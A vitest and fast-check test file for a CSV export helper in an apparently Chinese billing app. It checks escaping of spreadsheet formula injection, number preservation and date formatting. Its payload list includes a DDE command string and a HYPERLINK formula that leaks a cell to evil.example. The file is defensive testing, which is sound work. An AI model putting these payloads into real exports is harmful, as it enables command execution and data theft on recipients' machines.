import { fc, test as property } from '@fast-check/vitest';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { csvOf, dayCell, momentCell, wordsOf, yuanCell, type Cell } from '../../../functions/shared/csv';
import { fen } from '../../../functions/shared/money';

/** As a spreadsheet takes it apart. */
const cellsOf = (file: string): string[][] =>
  parse(file, { bom: true, record_delimiter: '\r\n', relax_column_count: true });
const cellOf = (cell: Cell): string => cellsOf(csvOf(['h', 'i'], [[cell, 'x']]))[1]?.[0] ?? '';

const EVIL = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  "'=1+1",
  "''=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"点我")',
  '","=1+1',
  '\r\n=1+1,',
];
/** What a spreadsheet would reckon, by the marks that OWASP names, written anew: not the product's own pattern. */
const BEGINS_A_FORMULA = new Set([...'=+-@＝＋－＠\t\r\n\0']);
const HIDDEN = new Set([...' \u3000\u200b\u200c\u200d\u2060\ufeff\u00a0\u00ad']);
const isReckoned = (cell: string): boolean => {
  const letters = [...cell];
  const shown = letters.findIndex((letter) => !HIDDEN.has(letter));
  return BEGINS_A_FORMULA.has(letters[0] ?? '') || BEGINS_A_FORMULA.has(letters[shown] ?? '');
};

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.string({
    unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n\0\'" ,;0189E.年鱼\u3000\u200b'),
    maxLength: 8,
  }),
  fc.constantFrom(...EVIL),
);

describe('a file for spreadsheets', () => {
  test('begins with the mark of UTF-8, and every record ends with CRLF', () => {
    expect(csvOf(['姓名', '金额'], [['徐会计', yuanCell(fen(123400))]])).toBe(
      '\u{feff}姓名,金额\r\n徐会计,1234.00\r\n',
    );
  });

  test.each(EVIL)('%j stays words', (evil) => {
    expect(cellOf(evil).startsWith("'")).toBe(!evil.startsWith('"'));
    expect(isReckoned(cellOf(evil))).toBe(false);
    expect(wordsOf(cellOf(evil))).toBe(evil);
  });

  property.prop([fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { maxLength: 6 })])(
    'what is read back is what was there, and no word is reckoned',
    (rows) => {
      const read = cellsOf(csvOf(['甲', '乙'], rows)).slice(1);
      expect(read.map((row) => row.map(wordsOf))).toEqual(rows);
      for (const cell of read.flat()) expect(isReckoned(cell)).toBe(false);
    },
  );

  test.each([
    '4200001234202611281234567890',
    '13812345678',
    '007',
    '１２３４５６７８９０１２３４５６',
    '3-4',
    '1E5',
    '2026/3/4',
    '12:30',
    '3月4日',
  ])('%s keeps every digit: a tab behind it, as in Alipay’s own bills', (number) => {
    expect(cellOf(number)).toBe(`${number}\t`);
    expect(wordsOf(cellOf(number))).toBe(number);
  });

  test.each(['ord_01KAX', '徐会计', '第3幢', 'a-1', 'xu@chunan.example', ''])('%j is as it is', (words) => {
    expect(cellOf(words)).toBe(words);
  });

  test('what is ours to reckon with stays a number, also below 0', () => {
    const cells = [yuanCell(fen(-8400)), yuanCell(fen(5)), yuanCell(fen(0)), 3, yuanCell(undefined)];
    expect(cells.map(cellOf)).toEqual(['-84.00', '0.05', '0.00', '3', '']);
  });

  test('an instant is the clock in Shanghai, a day is a day', () => {
    expect(cellOf(momentCell('2026-09-08T16:30:00.000Z'))).toBe('2026-09-09 00:30');
    expect([cellOf(dayCell('2026-09-08')), cellOf(momentCell(undefined))]).toEqual(['2026-09-08', '']);
  });
});
